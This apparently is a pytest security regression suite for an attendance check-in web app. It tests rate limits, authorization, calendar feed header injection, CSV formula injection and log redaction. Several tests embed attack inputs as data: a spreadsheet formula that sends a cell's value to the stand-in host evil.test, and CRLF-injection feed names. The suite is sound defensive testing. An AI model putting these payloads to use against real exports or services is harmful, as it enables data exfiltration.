"""The newer doors under attack: each finding of the probe replayed as it was sent.

Limits that guard a secret hold across gunicorn workers (and replicas) without Redis;
key doors answer 429 to a guesser; the Discord admin password is capped per address and
overall, not only per Discord id."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
import requests

from autocheckin.extensions import db
from autocheckin.integrations import calendar
from autocheckin.times import iso, utcnow
from tests.conftest import is_postgres
from tests.helpers import LEGACY, ONETAP, PASSWORD, make_event, make_student, post, register
from tests.servers import gunicorn


@pytest.mark.slow
def test_the_login_limit_holds_across_two_workers(database_url):
    """Ten wrong passwords a minute per account and address, counted by every worker."""
    with gunicorn(database_url, JWT_SECRET_KEY="j" * 48, WEB_CONCURRENCY="2") as base:
        account = {"email": "ann@example.com", "name": "Ann", "password": PASSWORD}
        assert requests.post(f"{base}/auth/register", json=account, timeout=10).ok
        wrong = {"email": "ann@example.com", "password": "not the password"}
        statuses = []
        for _ in range(20):
            # A new connection each time, so the two workers share the guesses between them.
            with requests.Session() as fresh:
                statuses.append(fresh.post(f"{base}/auth/login", json=wrong, timeout=10))
        codes = [answer.status_code for answer in statuses]
    assert codes.count(401) == 10, codes
    assert codes[10:] == [429] * 10
    assert int(statuses[-1].headers["Retry-After"]) > 0


@pytest.mark.slow
def test_wrong_keys_are_limited_across_two_workers_and_the_right_one_waits_too(database_url):
    with gunicorn(database_url, WEB_CONCURRENCY="2") as base:
        doors = [
            ("get", "/api/v1/state"),
            ("get", "/api/v1/auth/test"),
            ("get", "/api/webhooks"),
            ("get", "/api/integrations/lms/moodle/export"),
            ("get", "/metrics"),
        ]
        codes = []
        for n in range(20):
            method, path = doors[n % len(doors)]
            with requests.Session() as fresh:
                answer = fresh.request(
                    method, f"{base}{path}", headers={"x-checkout-key": f"guess-{n}"}, timeout=10
                )
            codes.append(answer.status_code)
        right = requests.get(
            f"{base}/api/v1/auth/test", headers={"x-checkout-key": "live-key"}, timeout=10
        )
    assert 429 not in codes[:10], codes
    assert codes[10:] == [429] * 10, codes
    # Past the limit even the right key waits: a 200 would tell the guesser it had won.
    assert right.status_code == 429
    assert "Retry-After" in right.headers


def test_the_auth_test_door_is_no_oracle(client):
    answers = [
        client.get("/api/v1/auth/test", headers={"x-checkout-key": f"guess-{n}"}) for n in range(11)
    ]
    assert [a.get_json()["data"]["authenticated"] for a in answers[:10]] == [False] * 10
    assert answers[10].status_code == 429
    assert answers[10].get_json()["success"] is False


def test_discord_admin_guesses_are_capped_per_address_and_overall(make_app):
    """16 freshly registered Discord ids, 5 guesses each: 80 guesses from one address."""
    bot = make_app(DISCORD_ADMIN_PASSWORD="the-real-admin-password").test_client()
    codes = []
    for n in range(16):
        discord_id = str(1000 + n)
        post(bot, "/discord/users/register", {"discord_user_id": discord_id, "name": f"U{n}"})
        for guess in range(5):
            codes.append(
                post(
                    bot,
                    "/discord/admin/make-admin",
                    {"discord_user_id": discord_id, "password": f"guess-{guess}"},
                ).status_code
            )
    assert codes.count(403) == 5, codes  # the address's five, whatever the ids
    assert codes.count(429) == 75


def test_discord_admin_guesses_from_many_addresses_meet_the_overall_cap(make_app):
    app = make_app(DISCORD_ADMIN_PASSWORD="the-real-admin-password")
    bot = app.test_client()
    codes = []
    for n in range(30):
        discord_id = str(2000 + n)
        post(bot, "/discord/users/register", {"discord_user_id": discord_id, "name": f"U{n}"})
        answer = bot.post(
            "/discord/admin/make-admin",
            json={"discord_user_id": discord_id, "password": "guess"},
            environ_base={"REMOTE_ADDR": f"10.0.{n}.1"},
        )
        codes.append(answer.status_code)
    assert codes.count(403) == 20 and codes[20:] == [429] * 10, codes


def test_a_sign_up_flood_is_limited_in_the_database(client):
    codes = [register(client, email=f"u{n}@example.com").status_code for n in range(21)]
    assert codes[:20] == [201] * 20 and codes[20] == 429


def test_attendee_lists_need_the_events_creator_an_admin_or_the_key(app, client, auth):
    """Anyone who reached the server could walk every event's attendees."""
    with app.app_context():
        event_id = make_event(name="Private").id
    path = f"/events/{event_id}/attendees"
    assert client.get(path).status_code == 401
    stranger = auth.headers(email="stranger@example.com")
    assert client.get(path, headers=stranger).status_code == 403
    assert client.get(path, headers={"x-checkout-key": "nope"}).status_code == 401
    assert client.get(path, headers={"x-checkout-key": "test-checkout-key"}).status_code == 200
    app.test_cli_runner().invoke(args=["users", "promote", "stranger@example.com"])
    assert client.get(path, headers=stranger).status_code == 200


# --- exports, reads and logs ---------------------------------------------------------------------


KEY = {"x-checkout-key": "test-checkout-key"}


@pytest.mark.parametrize("name", ["feed\nX-INJ:1", "feed\rX-INJ:1", "feed\x00"])
def test_a_calendar_feed_name_cannot_break_or_inject_lines(app, client, name):
    refused = client.post("/api/integrations/calendar/feeds", json={"name": name}, headers=KEY)
    assert refused.status_code == 400, refused.get_json()
    assert "control characters" in refused.get_json()["detail"]
    if "\x00" in name and is_postgres():
        return  # PostgreSQL cannot store a NUL at all: the refusal above is the whole story
    with app.app_context():  # one stored before the check (or written by hand) still serves
        _, token = calendar.create_feed(name)
    polled = client.get(f"/api/integrations/calendar/feeds/{token}.ics")
    assert polled.status_code == 200
    lines = polled.get_data().split(b"\r\n")
    assert not any(line.startswith(b"X-INJ") for line in lines)
    assert all(b"\r" not in line and b"\n" not in line for line in lines)
    (calname,) = [line for line in lines if line.startswith(b"X-WR-CALNAME")]
    expected = b"feed" if name == "feed\x00" else b"feed\\nX-INJ:1"
    assert calname == b"X-WR-CALNAME:AutoCheckin events: " + expected
    assert b"\x00" not in polled.get_data()


def test_a_check_in_source_is_no_formula_in_any_locale(app, client):
    with app.app_context():
        make_student(identifier="A1")
        make_event(name="Lab")
    source = 'x;=WEBSERVICE("http://evil.test/?"&A1)'
    post(client, LEGACY, {"student_identifier": "A1", "event_identifier": "Lab", "source": source})
    exported = client.get("/api/integrations/lms/moodle/export", headers=KEY)
    (row,) = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))[1:]
    assert row[5] == 'x;\'=WEBSERVICE("http://evil.test/?"&A1)'
    for separator in (";", "\t", "|", ","):
        assert not any(
            part.lstrip().startswith(("=", "+", "-", "@")) for part in row[5].split(separator)
        )


def test_a_same_named_decoy_made_by_a_web_user_takes_no_scanner_check_in(app, client, auth):
    now = utcnow().replace(microsecond=0)
    real = post(
        client,
        ONETAP,
        {
            "action": "create_event",
            "data": {"event_name": "Lecture X", "event_date": iso(now - timedelta(minutes=5))},
        },
    ).get_json()["event"]["id"]
    with app.app_context():
        make_student(identifier="A1")
    decoy = client.post(
        "/events/",
        json={
            "title": "Lecture X",
            "start_time": iso(now - timedelta(minutes=1)),
            "end_time": iso(now + timedelta(hours=1)),
        },
        headers=auth.headers(email="mallory@example.com"),
    )
    assert decoy.status_code == 201  # nearer in time, and newer: it used to win
    scanned = post(client, LEGACY, {"student_identifier": "A1", "event_identifier": "Lecture X"})
    assert scanned.status_code == 201
    assert scanned.get_json()["event"]["id"] == real


@pytest.mark.slow
def test_no_feed_secret_reaches_the_access_log(database_url, tmp_path):
    from autocheckin import create_app  # noqa: PLC0415 - a one-off app on the same database

    app = create_app({"DATABASE_URL": database_url, "CHECKOUT_API_KEY": "live-key"})
    with app.app_context():
        feeds = [calendar.create_feed(f"feed {n}") for n in range(3)]
        db.engine.dispose()  # no connection of this one-off app outlives the test
    log_path = tmp_path / "gunicorn.log"
    with log_path.open("w") as log, gunicorn(database_url, log=log, LOG_LEVEL="INFO") as base:
        for _, token in feeds:
            assert requests.get(
                f"{base}/api/integrations/calendar/feeds/{token}.ics", timeout=10
            ).ok
        assert (
            requests.get(
                f"{base}/api/integrations/calendar/feeds/guess.ics", timeout=10
            ).status_code
            == 404
        )
    text = log_path.read_text()
    for feed, token in feeds:
        assert token not in text
        assert f"/calendar/feeds/feed-{feed.id}.ics" in text
    assert "guess" not in text


def test_a_login_with_a_300_character_email_is_refused_not_a_500(client):
    """schemathesis on PostgreSQL: the limit's key outgrew its column (500)."""
    answer = client.post("/auth/login", json={"email": "0" * 300, "password": "x"})
    assert answer.status_code in (401, 422), answer.get_json()
